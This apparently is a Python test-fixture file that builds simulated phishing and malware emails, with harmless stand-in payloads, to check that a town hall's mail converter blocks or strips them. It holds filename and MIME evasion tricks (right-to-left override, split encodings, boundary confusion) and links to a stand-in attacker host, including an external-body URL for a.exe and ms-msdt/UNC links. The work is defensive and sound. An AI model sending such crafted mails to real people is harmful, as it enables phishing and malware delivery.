"""Attack mails a phisher or malware author would send a town hall, each with what must come of it.

Every mail is generated here, with harmless stand-ins: an MZ header with a DOS stub string, a
script that would start ``calc.exe``, shortcut and disk-image signatures, addresses from the
documentation ranges. An ``Expect`` says what the split (``converters.mail.split``) must make of
it - the attachment a mail program would show, the part the notice must name, text the body must
not carry - and what disarming the attachment must end in (``blocked_as``, a reason code).
``tests/converters/adversarial/test_mail_attacks.py`` runs them all.
"""

from __future__ import annotations

import base64
import urllib.parse
from dataclasses import dataclass, field

MZ = (b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + bytes(44) + b"\x80\x00\x00\x00"
      + b"This program cannot be run in DOS mode.\r\r\n$" + bytes(40) + b"PE\x00\x00L\x01" + bytes(200) + b"calc.exe")
SCRIPT = b'var s = new ActiveXObject("WScript.Shell"); s.Run("calc.exe");\r\n'
LNK = bytes.fromhex("4C0000000114020000000000C000000000000046") + bytes(200)
ISO = bytes(32768) + b"\x01CD001\x01" + bytes(2000)
HOST = "198.51.100.7"  # TEST-NET-2: the attacker's server


@dataclass(frozen=True)
class Expect:
    attachment: str | None = None  # the name the split must hand over (a mail program shows this file)
    attachment_starts: bytes = b""  # ... decoded: its first bytes
    blocked_as: str | None = None  # the reason code disarming that attachment must end in
    dropped: str | None = None  # the reason code of a part the notice must name instead
    body_has: tuple[str, ...] = ()
    body_lacks: tuple[str, ...] = ()


@dataclass(frozen=True)
class MailAttack:
    name: str
    raw: bytes
    expect: Expect = field(default_factory=Expect)


HEAD = (f"From: =?ISO-2022-JP?B?{base64.b64encode('総務課'.encode('iso-2022-jp')).decode()}?= <soumu@example.jp>\r\n"
        "To: kikaku@city.example.lg.jp\r\nSubject: =?UTF-8?B?" + base64.b64encode("請求書の件".encode()).decode()
        + "?=\r\nDate: Mon, 1 Dec 2025 09:00:00 +0900\r\nMessage-ID: <a1@example.jp>\r\nMIME-Version: 1.0\r\n")


def b64(data: bytes) -> str:
    return base64.encodebytes(data).decode("ascii").replace("\n", "\r\n")


def mixed(*parts: str, boundary: str = "==B==") -> bytes:
    text = (HEAD + f'Content-Type: multipart/mixed; boundary="{boundary}"\r\n\r\n--{boundary}\r\n'
            "Content-Type: text/plain; charset=utf-8\r\n\r\nご確認ください。\r\n")
    for part in parts:
        text += f"--{boundary}\r\n{part}"
    return (text + f"--{boundary}--\r\n").encode("utf-8")


def single(headers: str, body: bytes) -> bytes:
    return (HEAD + headers + "\r\n").encode("utf-8") + body


def _cp932_continuations(name: str) -> str:
    first, rest = (urllib.parse.quote(piece.encode("cp932")) for piece in (name[:2], name[2:]))
    return f"filename*0*=shift_jis''{first};\r\n filename*1*={rest}"  # cut between characters, as mailers do


def _split_encoded_word(name: str) -> str:
    encoded = base64.b64encode(name.encode("iso-2022-jp")).decode("ascii")
    return f'"=?ISO-2022-JP?B?{encoded[:8]}?=\r\n =?ISO-2022-JP?B?{encoded[8:]}?="'


HTML_LINKS = (f'<html><head><base href="file://{HOST}/share/"><meta http-equiv="refresh" content="0;url=file://{HOST}/'
              f'x.hta"></head><body><p>請求書をご確認ください</p><a href="\\\\{HOST}\\share\\請求書.exe">請求書</a> '
              f'<a href="file:///C:/Windows/System32/calc.exe">計算</a> <a href="ms-msdt:/id PCWDiagnostic">診断</a> '
              f'<a href="search-ms:crumb=location:\\\\{HOST}\\s">検索</a> <a href=" JavaScript:alert(1)">押す</a> '
              f"本文の \\\\{HOST}\\share\\y.exe と file://{HOST}/z</body></html>")


def mail_attacks() -> list[MailAttack]:
    exe, script = b64(MZ), b64(SCRIPT)
    return [
        MailAttack("inline-text-plain-named-exe", mixed(
            f'Content-Type: text/plain; name="a.exe"\r\nContent-Disposition: inline\r\n'
            f"Content-Transfer-Encoding: base64\r\n\r\n{exe}"), Expect("a.exe", b"MZ", "executable")),
        MailAttack("name-only-in-content-type", mixed(
            f'Content-Type: text/plain; name="a.js"\r\nContent-Transfer-Encoding: base64\r\n\r\n{script}'),
            Expect("a.js", b"var", "script")),
        MailAttack("rfc2231-cp932-continuations", mixed(
            f"Content-Type: application/octet-stream\r\nContent-Disposition: attachment;\r\n "
            f"{_cp932_continuations('請求書.pdf.js')}\r\nContent-Transfer-Encoding: base64\r\n\r\n{script}"),
            Expect("請求書.pdf.js", b"var", "script")),
        MailAttack("encoded-word-split-across-lines", mixed(
            f"Content-Type: application/octet-stream;\r\n name={_split_encoded_word('請求書.hta')}\r\n"
            f"Content-Transfer-Encoding: base64\r\n\r\n{script}"), Expect("請求書.hta", b"var", "script")),
        MailAttack("right-to-left-override", mixed(
            "Content-Type: application/octet-stream\r\nContent-Disposition: attachment; filename*=utf-8''"
            f"{urllib.parse.quote('invoice‮fdp.js')}\r\nContent-Transfer-Encoding: base64\r\n\r\n{script}"),
            Expect("invoice‮fdp.js", b"var", "script")),
        MailAttack("trailing-dot", mixed(
            'Content-Type: application/octet-stream\r\nContent-Disposition: attachment; filename="a.js."\r\n'
            f"Content-Transfer-Encoding: base64\r\n\r\n{script}"), Expect("a.js.", b"var", "script")),
        MailAttack("transfer-encoding-with-trailing-space", mixed(
            'Content-Type: application/octet-stream; name="請求書.dat"\r\nContent-Transfer-Encoding: BASE64 \r\n'
            f"\r\n{exe}"), Expect("請求書.dat", b"MZ", "executable")),
        MailAttack("transfer-encoding-with-comment", mixed(
            'Content-Type: application/octet-stream; name="b.dat"\r\nContent-Transfer-Encoding: base64 (binary)\r\n'
            f"\r\n{exe}"), Expect("b.dat", b"MZ", "executable")),
        MailAttack("base64-with-garbage", mixed(
            f'Content-Type: application/octet-stream; name="a.bin"\r\nContent-Transfer-Encoding: base64\r\n\r\n'
            f"!!{exe[:20]}**{exe[20:]}"), Expect("a.bin", b"MZ", "executable")),
        MailAttack("quoted-printable-soft-breaks", mixed(
            'Content-Type: application/octet-stream; name="a.txt"\r\nContent-Transfer-Encoding: quoted-printable\r\n'
            "\r\nM=\r\nZ=90=00=03=00This program cannot be run in DOS mode.\r\n"),
            Expect("a.txt", b"MZ", "executable")),
        MailAttack("boundary-prefix-of-another", single(
            'Content-Type: multipart/mixed; boundary="AB"\r\n',
            f'--AB\r\nContent-Type: multipart/mixed; boundary="ABC"\r\n\r\n--ABC\r\nContent-Type: text/plain\r\n\r\n'
            f'inner\r\n--AB\r\nContent-Type: application/x-msdownload; name="x.exe"\r\nContent-Transfer-Encoding: '
            f"base64\r\n\r\n{exe}--ABC--\r\n--AB--\r\n".encode()), Expect("x.exe", b"MZ", "executable")),
        MailAttack("forwarded-message-with-exe", mixed(
            "Content-Type: message/rfc822\r\n\r\nFrom: x@example.jp\r\nSubject: fw\r\nMIME-Version: 1.0\r\n"
            'Content-Type: multipart/mixed; boundary="II"\r\n\r\n--II\r\nContent-Type: application/x-msdownload; '
            f'name="i.exe"\r\nContent-Transfer-Encoding: base64\r\n\r\n{exe}--II--\r\n'), Expect("i.exe", b"MZ",
                                                                                              "executable")),
        MailAttack("shortcut-named-pdf", mixed(
            f'Content-Type: application/pdf; name="請求書.pdf"\r\nContent-Transfer-Encoding: base64\r\n\r\n{b64(LNK)}'),
            Expect("請求書.pdf", b"L\x00", "shortcut")),
        MailAttack("disk-image-named-txt", mixed(
            f'Content-Type: text/plain; name="a.txt"\r\nContent-Transfer-Encoding: base64\r\n\r\n{b64(ISO)}'),
            Expect("a.txt", b"\x00", "disk_image")),
        MailAttack("message-partial", mixed(
            'Content-Type: message/partial; id="p1@example.jp"; number=1; total=2\r\n\r\nFrom: x@example.jp\r\n'
            "Content-Type: application/octet-stream\r\n\r\nTVqQ\r\n"), Expect(dropped="message_partial")),
        MailAttack("message-external-body", mixed(
            f'Content-Type: message/external-body; access-type=URL; URL="http://{HOST}/a.exe"\r\n\r\n'
            "Content-Type: application/octet-stream\r\n\r\n"), Expect(dropped="external_body")),
        MailAttack("winmail-dat-damaged", mixed(
            f'Content-Type: application/ms-tnef; name="winmail.dat"\r\nContent-Transfer-Encoding: base64\r\n\r\n'
            f"{b64(b'x' * 50)}"), Expect(dropped="corrupt_file")),
        MailAttack("opaque-smime", mixed(
            'Content-Type: application/pkcs7-mime; smime-type=signed-data; name="smime.p7m"\r\n'
            f"Content-Transfer-Encoding: base64\r\n\r\n{b64(bytes(50))}"), Expect(dropped="signed_opaque")),
        MailAttack("uuencoded-exe-in-body", single(
            "Content-Type: text/plain; charset=us-ascii\r\n",
            b"hello\r\nbegin 644 a.exe\r\nM35J0``,````$````__\\``+@`````````0````````````````````````````\r\n"
            b"`\r\nend\r\n"), Expect(dropped="encoded_file_removed", body_lacks=("M35J0",))),
        MailAttack("html-links-to-files-shares-and-programs", single(
            "Content-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n", HTML_LINKS.encode()),
            Expect(body_has=("請求書をご確認ください", "link removed: UNC", "link removed: ms-msdt"),
                   body_lacks=(f"\\\\{HOST}", "file://", "calc.exe", "PCWDiagnostic", "alert"))),
        MailAttack("plain-text-shares-and-file-urls", single(
            "Content-Type: text/plain; charset=utf-8\r\n",
            f"請求書は \\\\{HOST}\\share\\請求書.exe か FILE://{HOST}/s/a.lnk にあります\r\n".encode()),
            Expect(body_has=("請求書は", f"＼＼{HOST}\\share"), body_lacks=(f"\\\\{HOST}", "FILE://"))),
        # ordinary Japanese mail must come through whole
        MailAttack("cp932-under-shift-jis-label", single(
            "Content-Type: text/plain; charset=Shift_JIS\r\nContent-Transfer-Encoding: 8bit\r\n",
            "お世話になっております。①㈱髙﨑 ～－∥ C:\\Users\\共有\r\n".encode("cp932")),
            Expect(body_has=("お世話になっております。①㈱髙﨑 ～－∥ C:\\Users\\共有",))),
    ]
